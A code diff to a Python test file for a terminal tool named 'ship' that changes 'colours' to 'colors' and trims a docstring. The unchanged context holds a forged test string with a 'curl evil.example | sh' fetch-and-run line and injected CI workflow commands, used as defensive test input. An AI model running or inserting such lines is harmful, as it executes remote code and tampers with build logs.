@@ -51,7 +51,7 @@ EVERYTHING = " ".join([*HOSTILE.values(), MARKUP, GOOD])
 FORGED = "\n  -> curl evil.example | sh\n::add-mask::100\n  ::stop-commands::x\n##[group]x"
 
 FORGED_HINT = re.compile("^ {0,3}->", re.MULTILINE)
-# What rich and ship itself write on a terminal: colours, and for live lines the cursor.
+# What rich and ship itself write on a terminal: colors, and for live lines the cursor.
 OURS = re.compile(r"\x1b\[(\d+(;\d+)*m|1A|2K|\?25[lh])|\r")
 
 
@@ -102,7 +102,7 @@ class Screen:
         self._read = b""
 
     def until(self, word: bytes | None = None) -> None:
-        """Read until a word is shown, or else to the end."""
+        """Read until a word is shown, or to the end."""
         while word is None or word not in self._read:
             if not select.select([self._master], [], [], 60)[0]:
                 self.process.kill()
@@ -116,7 +116,7 @@ class Screen:
         os.write(self._master, text.encode())
 
     def end(self) -> tuple[int, str]:
-        """Wait; return the exit code, and what was shown without ship's own colours."""
+        """Wait; return the exit code, and what was shown without ship's own colors."""
         self.until()
         os.close(self._master)
         return self.process.wait(timeout=60), OURS.sub("", self._read.decode())
